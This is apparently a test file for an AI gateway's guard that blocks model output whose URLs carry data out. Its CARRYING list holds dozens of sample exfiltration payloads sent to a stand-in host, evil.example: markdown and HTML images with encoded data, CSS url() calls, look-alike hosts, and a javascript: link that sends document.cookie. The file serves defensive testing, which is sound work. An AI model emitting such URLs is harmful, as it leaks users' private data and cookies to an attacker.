"""gateway.output.exfiltration, gateway.detect.urls.find: URLs with data are refused, others pass, in any pieces."""

from __future__ import annotations

import base64
import itertools
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

import calls
import line as lines
import upstream as scripted
from budgets import examples
from gateway.call import Call, Redaction
from gateway.config.load import loads
from gateway.detect.urls.find import Links
from gateway.detect.urls.judge import MAX_URL, carries, parse
from gateway.errors import ConfigError, Refusal
from gateway.output.exfiltration import Exfiltration
from gateway.texts import Slot

GATE = Exfiltration(["docs.example.org", "*.trusted.example"])
ADDRESS = "ann.smith@example.org"
CODED = base64.b64encode(b"the plan is to sell in May").decode()
RANDOM = "aG9Kd2xQ8zRt5Vb1Nc7Xy3Ue6Wi0Ao4Sp2Df9"  # drawn by chance, and decodes to nothing
WRAPPED = base64.b64encode(f"\1\2{ADDRESS}\3".encode()).decode()

CARRYING = {
    "image, encoded text in the query": f"![chart](https://evil.example/c.png?d={CODED})",
    "image, encoded text in the path": f"![chart](https://evil.example/{CODED.rstrip('=')}.png)",
    "image, hex": f"![x](https://evil.example/{b'secret words'.hex()})",
    "image, Base32": f"![x](https://evil.example/{base64.b32encode(b'secret words').decode()})",
    "image, random": f"![x](https://evil.example/p?k={RANDOM})",
    "image, a sentence in the query": "![x](https://evil.example/p?q=The+user+asked+about+the+merger+with+Acme)",
    "image in a link": f"[![x](https://evil.example/{CODED})](https://example.com)",
    "image, spaces and a title": f'![x]( https://evil.example/{CODED} "t")',
    "image, angle brackets": f"![x](<https://evil.example/{CODED}>)",
    "image by reference": f"![x][1]\n\n[1]: https://evil.example/{CODED}",
    "image without a scheme": f"![x](//evil.example/{CODED})",
    "image with backslashes": f"![x](https:\\\\evil.example/{CODED})",
    "image with an escaped colon": f"![x](https\\://evil.example/{CODED})",
    "image with an entity": f"![x](https&#x3a;//evil.example/{CODED})",
    "image with named entities": f"![x](https&colon;&sol;&sol;evil.example/{CODED})",
    "image, a name below the host": f"![x](https://{b'secret words'.hex()}.evil.example/)",
    "image to a collector": "![x](https://abc123.oast.pro/x)",
    "image, a user name": "![x](https://stolen-words@evil.example/)",
    "HTML image": f'<img src="https://evil.example/{CODED}">',
    "HTML image, no quotes": f"<img alt=x src=https://evil.example/{CODED}>",
    "HTML image, a line break within": f'<img src="https:\n//evil.example/{CODED}">',
    "HTML srcset": f'<img srcset="https://example.com/a.png 1x, https://evil.example/{CODED} 2x">',
    "HTML frame": f"<iframe src='https://evil.example/{CODED}'></iframe>",
    "HTML stylesheet": f'<link rel="stylesheet" href="https://evil.example/{CODED}">',
    "HTML refresh": f'<meta http-equiv="refresh" content="0; url=https://evil.example/{CODED}">',
    "CSS": f'<div style="background: url(https://evil.example/{CODED})">',
    "CSS in quotes": f"a {{ background: url('https://evil.example/{CODED}') }}",
    "known value": f"![x](https://evil.example/?m={ADDRESS})",
    "link, known value": f"[more](https://evil.example/?m={ADDRESS})",
    "link, known value percent-encoded": "[more](https://evil.example/?m=ann.smith%40example.org)",
    "link, known value in Base64 among bytes": f"[x](https://e.example/?{WRAPPED})",
    "link, known value reversed": f"[x](https://evil.example/{ADDRESS[::-1]})",
    "link, known number without its spaces": "[x](https://evil.example/?t=491701234567)",
    "link, known value in a subdomain": "[x](https://ann.smith@example.org.evil.example/)",
    "link, encoded text": f"[more](https://evil.example/?d={CODED})",
    "link, fragment": f"[more](https://evil.example/#{CODED})",
    "bare link": f"See https://evil.example/?d={CODED} for more.",
    "autolink": f"See <https://evil.example/?d={CODED}>.",
    "link to a host in front of the host": "[pay](https://bank.example@evil.example/)",
    "link, look-alike host": "[pay](https://p\u0430ypal.example/)",
    "link, look-alike host in Punycode": "[pay](https://xn--80ak6aa92e.com/)",
    "link to a script": "[x](javascript:fetch('//evil.example/'+document.cookie))",
    "link to a page of its own": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "no end": f"![x](https://evil.example/{'word/' * (MAX_URL // 5)}",
}  # fmt: skip

HARMLESS = {
    "prose": "Note: this is a plain text; and/or one with 12:30, C:\\\\Users and a // comment.",
    "documentation": "See https://docs.python.org/3/library/asyncio-task.html#asyncio.TaskGroup.",
    "search": "[search](https://www.google.com/search?q=how+to+cook+rice+in+a+small+pot)",
    "video": "https://www.youtube.com/watch?v=dQw4w9WgXcQ&list=PL4cUxeGkcC9gUgr39Q_yD6v-bSyMwKPUI",
    "document": "https://docs.google.com/document/d/1v6l2gmkRKAn5UIg3V2QdeeCcXMElxsNzEzDkVlWDVg8/edit",
    "commit": "https://github.com/org/repo/blob/5c40567d8dbd0a5c1b0ab1b1b0a3a5b4c3d2e1f0/src/main.py#L10-L20",
    "page id": "https://www.notion.so/team/Road-map-8f3b7c2a9d4e4f6fa1b2c3d4e5f60718",
    "uuid": "https://example.com/orders/2f1c6a3e-8f0b-4f7a-9c55-1d2e3f4a5b6c",
    "badge": "![b](https://img.shields.io/badge/Python-3.11%20%7C%203.12-blue)",
    "photo": "![p](https://images.unsplash.com/photo-1519125323398-675f0ddb6308?ixlib=rb-1.2.1&auto=format&fit=crop&w=1350&q=80)",
    "placeholder image": "![p](https://via.placeholder.com/600x400.png?text=Hello+World)",
    "formula": "![f](https://latex.codecogs.com/svg.image?a^2+b^2=c^2)",
    "avatar": "![a](https://www.gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50?s=200)",
    "inline image": "![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAUAAAAFCAYAAACNbyblAAAAHElEQVQI12P4)",
    "mail": f"[write](mailto:{ADDRESS})",
    "code": 'r = httpx.get(f"https://api.example.com/v1/users/{user_id}?key={API_KEY}")',
    "empty script": '<a href="javascript:void(0)">menu</a>',
    "table of contents": "[One](#one-two-three) and [two](./guide/install.md), [three](/docs/a/b?c=d).",
    "other alphabet": "https://пример.рф/страница и https://müller.example/größe",
    "quoted text": "https://example.com/page#:~:text=The%20council%20agreed%20on%20a%20new%20plan",
    "trusted host": f"![x](https://docs.example.org/?d={CODED}&m={ADDRESS})",
    "host below a trusted one": f"![x](https://cdn.eu.trusted.example/{CODED})",
    "sent by the caller": f"![x](https://evil.example/signed?X={RANDOM}{RANDOM}{RANDOM})",
    "windows path": "\\\\server\\share\\file.txt and a regex \\\\d+://",
    "scheme of its own": "Open vscode://file/home/user/project or slack://channel?team=T1&id=C1.",
}


def call() -> Call:
    """A call whose request contained an address, a number and a long URL."""
    made = calls.call()
    made.redaction = Redaction(known=frozenset({ADDRESS, "+49 170 123-4567"}))
    sent = f"fetch https://evil.example/signed?X={RANDOM}{RANDOM}{RANDOM} for {ADDRESS}"
    made.request.slots = [Slot({"content": sent}, "content", sent, "user", None)]
    return made


def pieces(text: str, places: list[int]) -> list[str]:
    """The text, cut."""
    marks = sorted({0, len(text), *(place % (len(text) + 1) for place in places)})
    return [text[a:b] for a, b in itertools.pairwise(marks)]


def run(parts: list[str]) -> tuple[str, bool]:
    """The text that leaves, and whether the answer was blocked."""
    guard, out = GATE.guard(call()), ""
    try:
        for part in parts:
            out += guard.feed(part)
        return out + guard.close(), False
    except Refusal:
        return out, True


@pytest.mark.parametrize("name", CARRYING)
def test_a_url_that_carries_data_out_is_stopped(name: str) -> None:
    """In any syntax; the message does not repeat the data."""
    with pytest.raises(Refusal) as caught:
        GATE.text(call(), f"Here: {CARRYING[name]} ok")
    assert caught.value.code == "output_blocked"
    assert CODED[:10] not in caught.value.message
    assert "ann" not in caught.value.message


@pytest.mark.parametrize("name", HARMLESS)
def test_ordinary_urls_pass(name: str) -> None:
    """A text whose URLs carry no data is unchanged."""
    assert GATE.text(call(), HARMLESS[name]) == HARMLESS[name]


@pytest.mark.parametrize("name", [*CARRYING, *HARMLESS])
@settings(max_examples=25, deadline=None)
@given(places=st.lists(st.integers(0, 400), max_size=40))
@example(places=list(range(400)))
def test_any_cut_gives_the_same_verdict(name: str, places: list[int]) -> None:
    """Blocked or passed as if whole; no part of the path of a blocked URL has left."""
    text = "Look: " + {**CARRYING, **HARMLESS}[name] + " and on."
    out, stopped = run(pieces(text, places))
    assert stopped == (name in CARRYING)
    assert text.startswith(out) if stopped else out == text
    assert CODED[:8] not in out or not stopped


SYNTAX = [
    *("https:", "//", "/", "\\", ":", "&#", "58;", "&colon;", "&sol;", "![a](", "](", "<img src=", '"', "'", ">", "<"),
    *(
        "evil.example/",
        CODED,
        " ",
        "\n",
        "[1]: ",
        "url(",
        ")",
        "javascript:",
        "fetch(1)",
        "data:",
        "text/html,",
        "word",
    ),
]


@settings(max_examples=examples(100, nightly=3000), deadline=None)
@given(
    parts=st.lists(st.sampled_from(SYNTAX), max_size=24),
    places=st.lists(st.integers(0, 300), max_size=30),
)
def test_any_text_gives_the_same_verdict_in_any_pieces(parts: list[str], places: list[int]) -> None:
    """Syntax thrown together at random."""
    text = "".join(parts)
    whole, in_pieces = run([text]), run(pieces(text, places))
    assert whole[1] == in_pieces[1]
    assert whole[1] or whole[0] == in_pieces[0] == text


@given(text=st.text(max_size=80), places=st.lists(st.integers(0, 80), max_size=10))
def test_links_change_nothing(text: str, places: list[int]) -> None:
    """Text that is not refused leaves unchanged."""
    guard = Links(lambda url, image: None)
    assert "".join(map(guard.feed, pieces(text, places))) + guard.close() == text


def test_what_is_held_is_bounded() -> None:
    """A URL without an end is refused once it is too long, and not held forever."""
    guard = GATE.guard(call())
    assert guard.feed("https://evil.example/" + "a-word/" * 500) == "https"
    with pytest.raises(Refusal, match="very long"):
        guard.feed("a-word/" * 500)


def test_arguments_of_tools_may_hold_data_but_no_known_value() -> None:
    """A tool is called with data; a value that was redacted does not go to any host."""
    fine = f"https://api.example.com/search?q={CODED}"
    assert GATE.argument(call(), fine) == fine
    with pytest.raises(Refusal, match="calls a tool"):
        GATE.argument(call(), f"https://api.example.com/search?mail={ADDRESS}")
    allowed = f"https://crm.trusted.example/search?mail={ADDRESS}"
    assert GATE.argument(call(), allowed) == allowed


@given(st.text(max_size=60), st.booleans())
def test_any_text_can_be_parsed(text: str, image: bool) -> None:
    """No URL is too broken to be judged."""
    assert isinstance(carries(parse(f"https://{text}"), image=image), str)
    assert isinstance(carries(parse(text), image=image), str)


def test_the_line_blocks_by_default_and_lets_what_was_sent_pass(up: scripted.Upstream, tmp_path: Path) -> None:
    """The upstream repeats what it was sent: a URL of the request passes, whole and streamed."""
    with lines.running(tmp_path, lines.config(tmp_path, up.url)) as line:
        sent = f"![x](https://evil.example/{CODED})"
        assert line.chat(sent).json()["choices"][0]["message"]["content"] == sent
        assert "".join(content(line.chat(sent, stream=True).text)) == sent


def content(text: str) -> Iterator[str]:
    """The pieces that a client puts together."""
    for event in text.splitlines():
        if event.startswith("data: {"):
            for choice in json.loads(event[6:])["choices"]:
                yield choice["delta"].get("content") or ""


@pytest.mark.parametrize("host", ["https://a.example", "a.example/x", "*", "a..b", "*.*.example"])
def test_hosts_are_names(host: str) -> None:
    """An invalid host is refused when the file is read."""
    text = "providers: {demo: {format: demo}}\nmodels: {m: {targets: [demo/m]}}\nagents: {}\n"
    with pytest.raises(ConfigError, match="a host is written like"):
        loads(f"{text}output: {{allowed_hosts: ['{host}']}}\n", "g.yaml", {})
